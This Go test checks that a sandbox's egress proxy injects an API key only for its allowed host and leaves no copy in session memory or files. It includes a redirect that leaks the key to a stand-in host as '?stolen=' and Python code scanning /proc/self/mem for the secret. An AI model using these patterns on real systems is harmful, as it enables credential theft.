package hibernation_test

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"dynamic-sessions-mcp/sessions"
	"dynamic-sessions-mcp/sessions/egress"
	"dynamic-sessions-mcp/sessions/local"
	"dynamic-sessions-mcp/sessions/local/localtest"

	"golang.org/x/sys/unix"
)

const (
	// internetDir names, to the process that is in a network of its own, the folder with what
	// its hosts have.
	internetDir = "TEST_INTERNET"
	// hostAddress is a public address that exists in that network alone.
	hostAddress = "11.1.2.3"
)

var internetHosts = []string{"api.example.com", "other.example.com"}

// TestSecrets has the real pool reach hosts of the internet, which are servers of the test:
// the test runs again in a network of its own, where a public address is that of loopback.
func TestSecrets(t *testing.T) {
	if dir := os.Getenv(internetDir); dir != "" {
		testSecrets(t, dir)
		return
	}
	if os.Geteuid() != 0 {
		t.Skip("only root can make a network to test in")
	}
	dir := t.TempDir()
	makeCertificates(t, dir)
	cmd := exec.CommandContext(t.Context(), os.Args[0], "-test.run=^TestSecrets$", "-test.v", "-test.timeout=5m")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET | syscall.CLONE_NEWNS}
	cmd.Env = append(os.Environ(), internetDir+"="+dir, "SSL_CERT_FILE="+filepath.Join(dir, "authority.pem"), "GODEBUG=netdns=go")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	t.Logf("in its network:\n%s", out)
	if log := string(out); !strings.Contains(log, `"secrets":["API_KEY"]`) || strings.Contains(log, secretValue(1)) || strings.Contains(log, secretValue(2)) {
		t.Errorf("the log:\n%s", log)
	}
}

// secretValue is a value of the secret, made here so that no file has it.
func secretValue(n int) string { return fmt.Sprintf("sk+live/%d-%x", n, "0123456789abcdef") }

// makeCertificates writes an authority, and a certificate of it for the hosts.
func makeCertificates(t *testing.T, dir string) {
	t.Helper()
	write := func(name, kind string, der []byte) {
		if err := os.WriteFile(filepath.Join(dir, name), pem.EncodeToMemory(&pem.Block{Type: kind, Bytes: der}), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	authority := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "a test"}, NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	leaf := &x509.Certificate{SerialNumber: big.NewInt(2), DNSNames: internetHosts, NotAfter: time.Now().Add(time.Hour)}
	for name, one := range map[string]*x509.Certificate{"authority.pem": authority, "host.pem": leaf} {
		der, err := x509.CreateCertificate(rand.Reader, one, authority, key.Public(), key)
		if err != nil {
			t.Fatal(err)
		}
		write(name, "CERTIFICATE", der)
	}
	der, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	write("host.key", "PRIVATE KEY", der)
}

// joinInternet gives the network of this process the address of the hosts, and their names.
func joinInternet(t *testing.T, dir string) {
	t.Helper()
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	for name, set := range map[string]func(*unix.Ifreq) error{
		"lo": func(r *unix.Ifreq) error {
			r.SetUint16(unix.IFF_UP)
			return unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, r)
		},
		"lo:1": func(r *unix.Ifreq) error {
			if err := r.SetInet4Addr(net.ParseIP(hostAddress).To4()); err != nil {
				return err
			}
			return unix.IoctlIfreq(fd, unix.SIOCSIFADDR, r)
		},
	} {
		r, err := unix.NewIfreq(name)
		if err == nil {
			err = set(r)
		}
		if err != nil {
			t.Fatal(name, err)
		}
	}
	hosts := filepath.Join(dir, "hosts")
	if err := os.WriteFile(hosts, []byte("127.0.0.1 localhost\n"+hostAddress+" "+strings.Join(internetHosts, " ")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount("", "/", "", unix.MS_PRIVATE|unix.MS_REC, ""); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount(hosts, "/etc/hosts", "", unix.MS_BIND, ""); err != nil {
		t.Fatal(err)
	}
}

// An echo is the hosts: they answer with what they were sent, and write it down.
type echo struct {
	mu   sync.Mutex
	said []string
}

func (e *echo) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	said := fmt.Sprintf("%s %s%s %v %d", r.Method, r.Host, r.RequestURI, r.Header, len(body))
	e.mu.Lock()
	e.said = append(e.said, said)
	e.mu.Unlock()
	if r.URL.Path == "/redirect" {
		http.Redirect(w, r, "https://other.example.com/?stolen="+r.Header.Get("X-Api-Key"), http.StatusFound)
		return
	}
	fmt.Fprint(w, said)
}

// got returns what the hosts were sent since the last call.
func (e *echo) got() string {
	e.mu.Lock()
	defer e.mu.Unlock()
	said := strings.Join(e.said, "\n")
	e.said = nil
	return said
}

func serveInternet(t *testing.T, dir string) *echo {
	t.Helper()
	hosts := &echo{}
	cert, err := tls.LoadX509KeyPair(filepath.Join(dir, "host.pem"), filepath.Join(dir, "host.key"))
	if err != nil {
		t.Fatal(err)
	}
	var work sync.WaitGroup
	t.Cleanup(work.Wait)
	for _, port := range []string{"80", "443"} {
		l, err := net.Listen("tcp", net.JoinHostPort(hostAddress, port))
		if err != nil {
			t.Fatal(err)
		}
		if port == "443" {
			l = tls.NewListener(l, &tls.Config{Certificates: []tls.Certificate{cert}})
		}
		server := &http.Server{Handler: hosts}
		work.Go(func() { _ = server.Serve(l) })
		t.Cleanup(func() { server.Close() })
	}
	return hosts
}

// search defines found(a, b), which counts where a is followed by b in the memory of the
// process and in the files of the session, without ever having both together.
const search = `import os, re
def count(data, a, b):
    n, i = 0, data.find(a)
    while i >= 0:
        n += data[i + len(a):i + len(a) + len(b)] == b
        i = data.find(a, i + 1)
    return n
def found(a, b):
    n = 0
    with open('/proc/self/mem', 'rb', 0) as mem:
        for line in open('/proc/self/maps').read().splitlines():
            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))
            for at in range(lo, hi, 16 << 20):
                try:
                    mem.seek(at)
                    n += count(mem.read(min(16 << 20, hi - at)), a, b)
                except (OSError, ValueError, OverflowError):
                    pass
    for top in ('/mnt/data', '/tmp'):
        for folder, _, names in os.walk(top):
            for name in names:
                try:
                    n += count(open(os.path.join(folder, name), 'rb').read(), a, b)
                except OSError:
                    pass
    return n
`

// testSecrets is the test, in its network.
func testSecrets(t *testing.T, dir string) {
	joinInternet(t, dir)
	hosts := serveInternet(t, dir)
	id := sessions.NewID()
	opts := local.Options{Named: id, CacheDir: privateCache(t), Egress: mustRules(t, internetHosts...)}
	value := secretValue(1)
	var err error
	if opts.Secrets, err = egress.ParseSecrets([]string{"API_KEY@api.example.com"}, opts.Egress, func(string) string { return value }); err != nil {
		t.Fatal(err)
	}
	pool, end := namedPool(t, opts)
	run := func(code string) string {
		x := localtest.Execute(t, pool, id, code)
		text := x.Text + x.Stdout + x.Stderr
		if x.Error != nil {
			text += x.Error.Traceback
		}
		if strings.Contains(text, value) {
			t.Errorf("%s: the session sees the secret: %s", code, text)
		}
		return text
	}
	run("import os, ssl, subprocess, urllib.request, requests\nkey = os.environ['API_KEY']\nhead = {'X-Api-Key': key}\nkept = requests.Session()\ncontext = ssl.create_default_context()\nkey")
	for name, code := range map[string]string{
		"requests":  "requests.get('https://api.example.com/', headers=head).text",
		"a session": "kept.get('https://api.example.com/?k=' + key, headers=head).text",
		"urllib":    "urllib.request.urlopen(urllib.request.Request('https://api.example.com/', headers=head)).read()",
		"curl":      "!curl -sS https://api.example.com/ -H \"X-Api-Key: $API_KEY\"",
		"a child":   "!python3 -c \"import os, urllib.request as u; print(u.urlopen(u.Request('https://api.example.com/', headers={'X-Api-Key': os.environ['API_KEY']})).read())\"",
		"a body":    "requests.post('https://api.example.com/', headers=head, data=b'x' * 3000000).text",
	} {
		text := run(code)
		if got := hosts.got(); !strings.Contains(got, "X-Api-Key:["+value+"]") || !strings.Contains(text, "placeholder-API_KEY-") {
			t.Errorf("%s: the host got %q, the session %s", name, got, text)
		}
	}
	for name, code := range map[string]string{
		"a redirect":    "requests.get('https://api.example.com/redirect', headers=head, verify=False).text",
		"another host":  "requests.get('https://other.example.com/', headers=head, verify=False).text",
		"plain HTTP":    "requests.get('http://api.example.com/', headers=head).text",
		"the host name": "requests.get('https://api.example.com/', headers={**head, 'Host': 'other.example.com'}).text",
	} {
		run("import warnings; warnings.simplefilter('ignore')\n" + code)
		// The host of the secret got it before it led elsewhere, and nobody else did.
		got := hosts.got()
		if led := strings.Contains(got, "GET other.example.com/?stolen=placeholder-API_KEY-"); led != (name == "a redirect") {
			t.Errorf("%s: the hosts got %q", name, got)
		}
		for _, said := range strings.Split(got, "\n") {
			if strings.Contains(said, value) && !strings.HasPrefix(said, "GET api.example.com/redirect ") {
				t.Errorf("%s: a host got %q", name, said)
			}
		}
	}
	inMemory := func() {
		began := time.Now()
		defer func() { t.Logf("searching took %v", time.Since(began)) }()
		half := func(s string) string { return fmt.Sprintf("b%q, b%q", s[:len(s)/2], s[len(s)/2:]) }
		placeholder := strings.Trim(run("key"), "'")
		text := run(search + "found(" + half(value) + "), found(" + half(placeholder) + ") > 0")
		if text != "(0, True)" {
			t.Errorf("secrets, placeholders in memory and files: %s", text)
		}
	}
	inMemory()
	end()
	if data, err := os.ReadFile(filepath.Join(instanceOf(t, opts.CacheDir), "state")); err != nil || bytes.Contains(data, []byte(value)) {
		t.Errorf("the state: %v", err)
	}

	// Another server, with another value: what the session holds is good for it.
	value = secretValue(2)
	if opts.Secrets, err = egress.ParseSecrets([]string{"API_KEY@api.example.com"}, opts.Egress, func(string) string { return value }); err != nil {
		t.Fatal(err)
	}
	pool, end = namedPool(t, opts)
	run("woken = kept.get('https://api.example.com/', headers=head).text + str(urllib.request.urlopen(urllib.request.Request('https://api.example.com/', headers=head), context=context).status)")
	if got := hosts.got(); strings.Count(got, "X-Api-Key:["+value+"]") != 2 {
		t.Errorf("after it slept the host got %q: %s", got, run("woken"))
	}
	if text := run("(os.environ['API_KEY'] == key, key in woken, woken[-3:])"); text != "(True, True, '200')" {
		t.Errorf("after it slept: %s", text)
	}
	inMemory()
	end()

	// A server without secrets: nothing is left of them.
	opts.Secrets = nil
	pool, end = namedPool(t, opts)
	if text := run("[name for name in os.environ if 'API_KEY' in name or 'authorities' in os.environ[name]]"); text != "[]" {
		t.Errorf("a server without secrets: %s", text)
	}
	end()
}

func mustRules(t *testing.T, list ...string) egress.Rules {
	t.Helper()
	rules, err := egress.ParseRules(list)
	if err != nil {
		t.Fatal(err)
	}
	return rules
}
